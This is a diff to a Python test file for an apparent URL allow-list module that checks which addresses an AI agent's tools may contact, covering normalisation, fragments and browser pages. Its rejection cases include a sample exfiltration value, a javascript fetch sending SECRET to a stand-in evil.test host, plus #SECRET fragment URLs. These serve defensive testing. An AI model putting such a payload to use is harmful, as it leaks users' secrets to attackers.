@@ -6,7 +6,7 @@ from hypothesis import strategies as st
 
 from quintet.domain.axes import Axes, PermissionProfile, RunControl, WorkMode
 from quintet.domain.grants import Effect
-from quintet.domain.known_addresses import addresses_in, composed, normalised, with_known
+from quintet.domain.known_addresses import addresses_in, composed, normalised, take_in, with_known
 from quintet.domain.toolspec import Touch
 
 GIVEN = "See https://docs.example.com/guide?page=2, and (http://Example.COM:80/a/B#part)."
@@ -17,9 +17,9 @@ KNOWN = addresses_in(GIVEN)
     "address",
     [
         "https://docs.example.com/guide?page=2",
-        "HTTPS://DOCS.example.com:443/guide?page=2#section",
+        "HTTPS://DOCS.example.com:443/guide?page=2",
         "http://example.com/a/B",
-        "http://EXAMPLE.com:80/a/B#x",
+        "http://EXAMPLE.com:80/a/B#part",
     ],
 )
 def test_what_was_given_is_known_in_any_spelling_that_leads_there(address: str) -> None:
@@ -53,12 +53,14 @@ def test_what_was_given_is_known_in_any_spelling_that_leads_there(address: str) 
         "javascript:fetch('//evil.test/SECRET')",
         "https://[::1/x",
         "https://docs.example.com:99999/guide?page=2",
+        "https://docs.example.com/guide?page=2#SECRET",
+        "http://example.com/a/B#SECRET",
         "",
     ],
 )
 def test_whatever_else_is_composed(address: str) -> None:
     assert composed(["http://example.com/a/B", address], KNOWN) == address or address == ""
-    assert normalised(address) not in KNOWN
+    assert normalised(address) not in KNOWN or "#" in address  # which a script of the page could read
 
 
 def test_people_write_addresses_without_http() -> None:
@@ -75,10 +77,26 @@ def test_links_of_a_page_in_the_browser_lead_from_where_it_is() -> None:
     assert "http://site.test/secret" not in known
 
 
+@pytest.mark.parametrize(
+    ("shown", "known"),
+    [
+        ("tab 0 · Home · http://site.test/a\nhttps://o.test/x", True),
+        ("tab 0 · Notes · file:specs/y.html\nhttps://o.test/x", False),
+        ("tab 0 · http://a.test · file:README.md\ntab 0 · Home · http://site.test/\nhttps://o.test/x", False),
+        ("https://o.test/x", False),
+    ],
+)
+def test_a_page_of_the_projects_own_in_the_browser_makes_no_address_known(shown: str, known: bool) -> None:
+    """A model could write the page, and a repository can bring one."""
+    addresses: set[str] = set()
+    take_in(addresses, shown, tool="browser_view")
+    assert (composed(["https://o.test/x"], addresses) == "") is known
+
+
 @given(st.text(), st.text(alphabet="abc/?&=.:@#%[]-", max_size=30))
 def test_anything_can_be_looked_through_and_only_what_stands_there_is_found(text: str, more: str) -> None:
     found = addresses_in(f"{text} https://a.test/{more} {text}")
-    assert all(normalised(one) == one for one in found)
+    assert all(normalised(one) == one.partition("#")[0] for one in found)
     assert normalised(f"https://b.test/{more}") not in found or "b.test" in text
 
 
